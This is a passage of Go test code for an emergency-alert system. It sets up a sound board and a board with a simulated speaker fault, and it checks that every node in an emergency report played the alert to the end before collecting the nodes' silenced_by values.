	sound, err := board.New(e.clock, board.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if cut, err = board.New(e.clock, board.DefaultConfig()); err != nil {
		t.Fatal(err)
	}
	if err := cut.Inject(board.FaultSpeakerOpen, true); err != nil {
		t.Fatal(err)
	}
	return sound, cut
}

// completedSilencedBy returns the silenced_by of each node of rep that has
// one, and fails for a node that did not play the alert to its end.
func completedSilencedBy(t *testing.T, rep *loaxa.EmergencyReport) map[string][]string {
	t.Helper()
	silenced := map[string][]string{}
	for _, n := range rep.Nodes {
		if n.State != string(loaxa.DeliveryCompleted) {
			t.Errorf("%s: %s, want completed (it played to the end)", n.Node, n.State)
		}
		if n.SilencedBy != nil {
			silenced[n.Node] = *n.SilencedBy
		}
	}
	return silenced
}
